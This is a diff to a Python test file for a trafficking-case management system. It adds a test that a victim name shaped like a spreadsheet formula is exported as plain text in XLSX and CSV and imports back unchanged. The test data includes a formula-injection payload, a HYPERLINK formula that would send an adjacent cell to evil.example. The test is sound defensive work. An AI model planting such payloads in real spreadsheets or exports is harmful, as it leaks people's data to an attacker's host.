@@ -11,6 +11,7 @@ together ("restricts movement" -> Other, fishing -> section A): the expected sid
 
 import datetime
 import io
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -200,3 +201,28 @@ def test_a_smuggled_migrants_support_plan_stays_out_and_the_export_still_imports
     imported = Case.objects.get(pk=ImportedCase.objects.values_list("case", flat=True).get(agency=naptip))
     assert plans(imported) == [("Aïssata", "Médical : bilan de santé", "active", None)]
     assert AssistancePlan.objects.filter(participant=migrant).exists()  # in the register, not in the export
+
+
+@pytest.mark.parametrize("kind", ["htcds-xlsx", "htcds-csv"])
+def test_a_value_that_looks_like_a_formula_is_written_as_text_and_comes_back_as_it_was(
+    kind, tmp_path, anltp, naptip, investigator, outsider
+):
+    # Opened in a spreadsheet, "=HYPERLINK(…)" would be a live link sending the next cell away (CSV or
+    # formula injection); read back as a formula, the name would be lost. A phone number stays as it is.
+    case = make_case(anltp, investigator)
+    given, family = '=HYPERLINK("http://evil.example/?"&B3,"Rabi")', "-Sani"
+    add_victim(case, investigator, given_names=given, family_name=family)
+    main_file = export_and_unpack(investigator, kind, tmp_path)
+
+    if kind == "htcds-xlsx":
+        with zipfile.ZipFile(main_file) as workbook:
+            sheets = [workbook.read(n) for n in workbook.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in sheet for sheet in sheets)
+    else:
+        text = main_file.read_text(encoding="utf-8-sig")
+        assert "'=HYPERLINK(" in text and ",'-Sani," in text
+    run = run_import(importer=HtcdsImporter(), path=main_file, actor=outsider, agency=naptip)
+
+    assert (run.status, run.rows_imported) == (ImportRun.Status.DONE, 1)
+    person = Participant.objects.get(case__agency=naptip).person
+    assert (person.given_names, person.family_name) == (given, family)
